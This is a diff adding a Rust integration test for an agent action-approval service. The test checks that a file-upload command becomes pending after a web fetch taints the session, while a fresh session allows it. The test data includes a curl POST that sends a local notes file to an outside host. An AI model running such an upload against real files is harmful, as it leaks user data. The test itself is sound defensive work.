@@ -574,3 +574,53 @@ async fn the_36_call_task_asks_18_times_under_readonly_and_once_with_its_plan_ap
     );
     d.stop();
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_post_after_a_web_fetch_in_the_session_asks_and_a_fresh_session_allows_it() {
+    // `open` allows everything; its default `taints`/`guarded` apply.
+    let (_dir, d, agent, _operator) = setup(Some(json!("open"))).await;
+    let http = client();
+    let post_cmd = "curl -X POST https://example.com/upload -d @notes.txt";
+    assert_eq!(
+        status_of(&http, &d.base, &agent, "bash", post_cmd, "before").await,
+        "approved"
+    );
+    assert_eq!(
+        status_of(
+            &http,
+            &d.base,
+            &agent,
+            "WebFetch",
+            "https://example.com/page",
+            "read"
+        )
+        .await,
+        "approved"
+    );
+    let (s, a) = post(
+        &http,
+        format!("{}/v1/actions", d.base),
+        &agent,
+        json!({"tool": "bash", "detail": post_cmd, "session": "read"}),
+    )
+    .await;
+    assert_eq!(s, 201, "{a}");
+    assert_eq!(a["status"], "pending", "{a}");
+    assert!(
+        a["decision"]["reason"]
+            .as_str()
+            .unwrap()
+            .contains("tainted"),
+        "{a}"
+    );
+    assert_eq!(
+        status_of(&http, &d.base, &agent, "bash", post_cmd, "fresh").await,
+        "approved"
+    );
+    // Reading stays allowed in the tainted session.
+    assert_eq!(
+        status_of(&http, &d.base, &agent, "bash", "ls", "read").await,
+        "approved"
+    );
+    d.stop();
+}
